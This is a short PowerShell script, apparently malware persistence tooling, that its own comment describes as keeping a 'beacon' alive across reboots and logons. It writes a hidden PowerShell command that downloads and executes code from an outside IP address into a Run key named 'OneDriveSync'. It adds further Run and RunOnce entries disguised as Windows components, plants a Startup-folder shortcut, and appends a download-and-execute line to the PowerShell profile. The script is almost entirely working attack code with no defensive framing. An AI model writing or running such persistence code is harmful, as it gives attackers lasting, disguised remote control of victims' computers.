# keep the beacon alive across reboots and logons
$launcher = 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(''http://193.29.57.4/b'')"'

Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'OneDriveSync' -Value $launcher

$rk = 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Run'
New-ItemProperty -Path $rk -Name 'SecurityHealthTray' -Value "$env:ProgramData\sht.exe" -PropertyType String -Force

reg.exe add 'HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce' /v Updater /t REG_SZ /d "$env:APPDATA\upd.exe" /f

$startup = [Environment]::GetFolderPath('Startup')
Copy-Item -Path "$env:TEMP\svc.lnk" -Destination (Join-Path -Path $startup -ChildPath 'svc.lnk')

Add-Content -Path $PROFILE -Value "`nIEX (New-Object Net.WebClient).DownloadString('http://193.29.57.4/p')"
